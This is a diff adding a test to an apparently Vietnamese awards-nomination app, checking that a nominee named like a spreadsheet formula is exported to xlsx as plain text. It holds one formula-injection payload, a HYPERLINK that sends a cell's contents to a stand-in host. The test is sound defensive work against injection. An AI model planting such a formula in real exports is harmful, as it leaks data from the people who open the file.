@@ -313,3 +313,21 @@ def test_calibration_page(people, forms, units):
     assert "Trang căn chỉnh" in text
     assert "Họ tên, tên tập thể" in text
     assert "lệch máy in 1" in text
+
+
+def test_a_nominee_named_like_a_formula_is_listed_as_text(
+    people, forms, ward_leader, make_nominee, make_nomination, make_decision
+):
+    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
+    nomination = make_nomination(
+        forms["GKUBP"], nominee=make_nominee(hostile), status=Status.APPROVED
+    )
+    decision = make_decision(forms["GKUBP"])
+    services.set_nominations(decision, [nomination])
+    services.issue(ward_leader, decision)
+    job = request_document(people["organiser"], "awards.decision_list", decision, "xlsx")
+    assert job.status == "done", job.error
+    job.file.open("rb")
+    sheet = load_workbook(io.BytesIO(job.file.read())).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert [cell.data_type for cell in cells] == ["s"]
